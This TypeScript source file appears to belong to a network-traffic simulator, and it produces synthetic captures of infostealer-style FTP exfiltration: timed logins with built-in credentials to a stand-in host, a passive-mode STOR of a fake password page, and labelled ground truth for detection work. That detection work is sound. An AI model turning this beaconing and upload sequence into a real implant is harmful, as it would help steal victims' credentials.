/**
 * Exfiltration over FTP, as infostealers (Agent Tesla, Snake Keylogger) send their loot: every interval ± jitter the
 * implant logs in to an FTP server with the account built into it, uploads one small HTML page of harvested
 * passwords in passive mode (STOR on a second connection to the port the server announced) and quits. Everything is
 * in the clear: the control channel and the file's bytes are captured.
 */
import { parseIp } from '../frames.js';
import type { TcpSession } from '../tcp.js';
import type { TruthEntity } from '../truth.js';
import { open, remoteFor } from '../web.js';
import { Recorder } from './recorder.js';
import type { InjectContext } from './context.js';

export interface FtpExfilParams {
  readonly domain: string;
  readonly ips: readonly string[];
  readonly user: string;
  readonly password: string;
  readonly interval_s: number;
  /** Each interval is drawn uniformly in interval × (1 ± jitter). */
  readonly jitter: number;
  readonly file_bytes: readonly [number, number];
  /** Active between these fractions of the capture window. */
  readonly from: number;
  readonly to: number;
}

export const EXFIL_FTP: FtpExfilParams = {
  domain: 'ftp.mailbackup-store.com', ips: ['185.117.118.21'], user: 'logs7@mailbackup-store.com', password: 'Zx!94kLmq2',
  interval_s: 1200, jitter: 0.1, file_bytes: [1_800, 7_000], from: 0.12, to: 0.95,
};

const line = (s: string): { data: Buffer } => ({ data: Buffer.from(`${s}\r\n`, 'latin1') });

/** An HTML page of "recovered" browser passwords, as the stealers format their logs (made up, `bytes` long). */
function lootPage(host: string, bytes: number): Buffer {
  const head = `<html><head><title>PW_${host}</title></head><body><h2>Recovered passwords</h2><table>`;
  const rows: string[] = [];
  for (let i = 0; head.length + rows.join('').length < bytes - 40; i++) {
    rows.push(`<tr><td>https://portal${i}.example/login</td><td>user${i}@example.com</td><td>p${(i * 7919) % 100000}</td></tr>`);
  }
  return Buffer.from(`${head}${rows.join('')}</table></body></html>`.slice(0, Math.max(bytes, head.length)), 'latin1');
}

export function injectFtpExfil(ctx: InjectContext, p: FtpExfilParams, id: string): () => TruthEntity | null {
  const { world, rng, host } = ctx;
  const rec = new Recorder(world, host);
  world.addZone({ name: p.domain, ips: p.ips, ttl: 300, server: 'openssl', rtt_ms: 64 });
  const span = ctx.end_us - ctx.start_us;
  const until = ctx.start_us + p.to * span;
  let n = 0;
  const session = (t: number): void => {
    if (t >= until) return;
    const o = open(world, rng, host, t, { name: p.domain, port: 21, server: 'openssl', rtt_ms: 64 });
    if (o !== null && o.established) {
      const tcp = o.opened.tcp;
      tcp.send('s', [line('220 (vsFTPd 3.0.3)')]);
      tcp.send('c', [line(`USER ${p.user}`)]);
      tcp.send('s', [line('331 Please specify the password.')]);
      tcp.send('c', [line(`PASS ${p.password}`)]);
      tcp.send('s', [line('230 Login successful.')]);
      tcp.send('c', [line('TYPE I')]);
      tcp.send('s', [line('200 Switching to Binary mode.')]);
      tcp.send('c', [line('PASV')]);
      const port = rng.int(40_000, 50_000);
      const ip = p.ips[0]!;
      tcp.send('s', [line(`227 Entering Passive Mode (${ip.replaceAll('.', ',')},${port >> 8},${port & 0xff}).`)]);
      const data: TcpSession = world.tcp(host, rng, remoteFor(world, parseIp(ip), 'openssl'), port, tcp.t + rng.int(200, 900), tcp.rtt_us);
      data.connect();
      const stamp = new Date(Math.floor(t / 1000)).toISOString().slice(0, 19).replace(/[-:T]/g, '_');
      tcp.send('c', [line(`STOR PW_${host.name}_${stamp}_${++n}.html`)], { delay_us: Math.max(0, data.t - tcp.t) });
      tcp.send('s', [line('150 Ok to send data.')]);
      data.send('c', [{ data: lootPage(host.name, rng.int(p.file_bytes[0], p.file_bytes[1])) }], { delay_us: Math.max(0, tcp.t - data.t) });
      data.close('c');
      tcp.send('s', [line('226 Transfer complete.')], { delay_us: Math.max(0, data.t - tcp.t) });
      tcp.send('c', [line('QUIT')]);
      tcp.send('s', [line('221 Goodbye.')]);
      tcp.close('s');
      rec.tcp(tcp);
      rec.tcp(data);
    }
    world.at(t + p.interval_s * 1e6 * (1 + rng.range(-p.jitter, p.jitter)), session);
  };
  world.at(ctx.start_us + p.from * span + rng.range(0, p.interval_s * 1e6), session);
  return () => rec.entity({
    id, kind: 'exfil', variant: 'ftp', dst_name: p.domain, app: 'ftp',
    params: { interval_s: p.interval_s, jitter: p.jitter, file_bytes: p.file_bytes, user: p.user },
    description: `${host.name} logs in to ${p.domain} over FTP every ${p.interval_s / 60} min ±${p.jitter * 100} % and uploads a page of stolen passwords (STOR, passive mode)`,
  });
}
